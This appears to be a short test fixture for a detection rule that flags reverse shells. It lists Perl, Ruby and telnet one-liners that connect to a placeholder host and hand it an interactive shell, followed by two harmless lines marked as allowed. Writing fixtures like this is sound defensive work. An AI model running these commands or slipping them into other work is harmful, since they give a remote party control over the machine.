# ruleid: opens-reverse-shell-by-script
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);open(STDIN,">&S");exec("sh -i");'
# ruleid: opens-reverse-shell-by-script
ruby -rsocket -e 'c=TCPSocket.new("h.example.test",1);while(l=c.gets);IO.popen(l,"r"){|i|c.print i.read}end'
# ruleid: opens-reverse-shell-by-script
telnet h.example.test 4444 | sh | telnet h.example.test 4445
# ok: opens-reverse-shell-by-script
perl -e "print 1"
# ok: opens-reverse-shell-by-script
telnet h.example.test 80
